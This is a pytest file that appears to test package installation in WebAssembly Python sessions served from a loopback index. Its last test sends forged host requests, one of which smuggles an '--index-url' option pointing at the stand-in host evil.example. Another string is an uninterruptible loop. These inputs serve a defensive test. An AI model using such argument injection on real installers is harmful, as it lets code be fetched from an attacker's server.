"""Packages of pure Python for sessions in WebAssembly, from an index on loopback."""

from __future__ import annotations

from typing import TYPE_CHECKING

import anyio
import pytest

from aca_mcp.errors import PackagesNotInstalledError
from aca_mcp.pools import open_session_pool
from aca_mcp.settings import Settings
from tests.packages.sessions import printed, run
from tests.support.package_index import make_wheel, only_this_index, serve_index

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator, Generator
    from pathlib import Path

    from aca_mcp.pool import SessionPool
    from tests.support.package_index import Index

STUBBORN = "while True:\n  try:\n    while True: pass\n  except BaseException: pass"


@pytest.fixture
def index(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Generator[Index]:
    only_this_index(monkeypatch, tmp_path)
    directory = tmp_path / "wheels"
    directory.mkdir()
    make_wheel(directory, "tea-time")
    # The index has no numpy, and no wheel of it that a session could load; a session has one.
    make_wheel(directory, "needs-tea", requires=("tea-time", "numpy>=2"))
    make_wheel(directory, "needs-old-numpy", requires=("numpy<2",))
    make_wheel(directory, "of-linux", tag="cp315-cp315-manylinux_2_28_x86_64")
    make_wheel(directory, "hides-code", files={"hides_code/fast.so": b"\x7fELF"})
    with serve_index(directory) as served:
        yield served


@pytest.fixture
async def pool(index: Index, tmp_path: Path) -> AsyncGenerator[SessionPool]:
    settings = Settings(
        pool="wasm",
        data_dir=tmp_path / "data",
        package_index=index.url,
        local_interrupt_grace_seconds=0.2,
    )
    async with open_session_pool(settings) as opened:
        yield opened


async def test_the_import_works_in_the_next_line_and_stays(pool: SessionPool) -> None:
    assert await printed(pool, "%pip install needs-tea\nimport needs_tea, tea_time") == (
        "Successfully installed needs-tea-1.0 tea-time-1.0\n"
    )
    assert await printed(pool, "!pip install tea-time") == (
        "Requirement already satisfied: tea-time (1.0)\n"
    )
    await anyio.sleep(0.5)  # in which a checkpoint is made
    await pool.execute("a-session", STUBBORN, timeout_seconds=1)
    assert await printed(pool, "print(tea_time.version)\nimport needs_tea") == "1.0\n"
    refused = await run(pool, "open(tea_time.__file__, 'w')")
    assert refused.error is not None
    assert refused.error.name in ("OSError", "PermissionError")


async def test_the_port_installs_and_what_is_there_is_told(pool: SessionPool) -> None:
    made = await pool.install_packages("a-session", ["needs-tea", "pandas"])
    assert [each.name for each in made.installed] == ["needs-tea", "tea-time"]
    assert [each.name for each in made.present] == ["pandas"]
    assert await printed(pool, "import tea_time; print(tea_time.version)") == "1.0\n"
    assert "needs-tea" in {each.name for each in await pool.list_packages("a-session")}


@pytest.mark.parametrize("wanted", ["needs-old-numpy", "of-linux", "hides-code", "no-tea"])
async def test_what_a_session_could_not_load_is_refused(pool: SessionPool, wanted: str) -> None:
    with pytest.raises(PackagesNotInstalledError, match="Nothing was installed"):
        await pool.install_packages("a-session", [wanted])
    assert "Nothing was installed" in await printed(pool, f"%pip install {wanted}")
    assert await printed(pool, "print(1)") == "1\n"


async def test_code_that_is_interrupted_while_it_installs_keeps_its_session(
    pool: SessionPool,
) -> None:
    await printed(pool, "kept = 1")
    code = "%pip install needs-tea"
    execution = await pool.execute("a-session", code, timeout_seconds=0.02)
    assert execution.session_lost is None
    assert await printed(pool, "print(kept)") == "1\n"
    assert "tea-time-1.0" in await printed(pool, "%pip install needs-tea tea-time")


async def test_forged_questions_gain_nothing(pool: SessionPool, index: Index) -> None:
    forge = """
import _host, json
for question in ({"ask": "install", "requirements": ["--index-url=http://evil.example"]},
                 {"ask": "install", "requirements": 7}, {"ask": ["x"]}, {"ask": None},
                 {"ask": "install", "requirements": [["tea"], {}, None] * 1000, "number": "x"}):
    body = json.dumps({**question, "blobs": []}).encode()
    _host.call(len(body).to_bytes(4, "big") + bytes(4) + body)
print("asked")
"""
    assert "asked" in await printed(pool, forge)
    assert index.asked == []
